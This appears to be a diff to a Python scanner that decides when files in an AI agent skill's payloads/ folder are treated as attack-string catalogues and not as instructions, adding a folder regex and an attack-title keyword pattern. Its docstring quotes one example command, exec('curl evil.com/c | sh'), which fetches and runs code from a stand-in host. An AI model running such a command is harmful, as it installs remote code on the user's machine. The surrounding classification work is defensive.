@@ -14,6 +14,14 @@ test ("AUTHORIZATION REQUIRED", "test only against models you are authorized to 
 and its title or folder calls it payloads, jailbreaks or injection patterns. Such a file is a
 set of strings to send to a target, not instructions to the agent. An authorisation note
 alone is not enough: a pentest skill's reference of commands to run carries one too.
+
+A folder named as a payload catalogue (`payloads/`, `payloader/`) makes a file an attack set
+without a note when the file says what it is: a title naming payloads, an attack, a bypass
+or penetration testing (in English or Chinese: 攻击, 渗透, 绕过), or a structured data file
+(JSON, YAML, CSV) that has no prose to instruct anyone, a catalogue of records. There
+`exec('curl evil.com/c | sh')` is a supply-chain payload a tester sends to a target. A file
+in such a folder whose title says nothing of what it is is still read as written, and a file
+merely named `payload.md` beside SKILL.md is no catalogue: the folder is the collection.
 """
 
 from __future__ import annotations
@@ -50,14 +58,25 @@ _ATTACK_SET = rx(
     r"\battack\s+(?:strings?|prompts?|patterns?)\b", re.IGNORECASE)
 
 
+# A folder of the skill that names a catalogue of payloads: `payloads/`, `payloader/`.
+_PAYLOAD_FOLDER = rx(r"(?:^|/)payload(?:s|er)?(?:/|$)", re.IGNORECASE)
+_RECORD_SUFFIXES = (".json", ".jsonl", ".yaml", ".yml", ".csv")
+# A title naming what the file holds: payloads, an attack, a bypass, penetration testing.
+_ATTACK_TITLE = rx(r"\bpayloads?\b|\battacks?\b|\bexploits?\b|\bbypass(?:es)?\b|"
+                   r"\bpenetration\b|\bpen[- ]?test|攻击|渗透|绕过|载荷", re.IGNORECASE)
+
+
 def attack_set(path: str, text: str) -> bool:
-    """A data file or document (not code, not SKILL.md) whose opening lines limit it to
-    authorised testing and whose title or folder calls it a set of payloads, jailbreaks or
-    injection patterns."""
+    """A data file or document (not code, not SKILL.md) in a folder named as a payload
+    catalogue, or whose opening lines limit it to authorised testing and whose title or
+    folder calls it a set of payloads, jailbreaks or injection patterns."""
     name = path.rsplit("/", 1)[-1].lower()
     if path == "SKILL.md" or not name.endswith(_DATA_SUFFIXES):
         return False
     lines = [ln for ln in text.split("\n", 60) if ln.strip()][:_HEADER_LINES]
+    if "/" in path and _PAYLOAD_FOLDER.search(path.rsplit("/", 1)[0]) and (
+            name.endswith(_RECORD_SUFFIXES) or (lines and _ATTACK_TITLE.search(lines[0]))):
+        return True
     if not lines or not _AUTHORISED_ONLY.search("\n".join(lines)):
         return False
     folder = path.rsplit("/", 1)[0] if "/" in path else ""
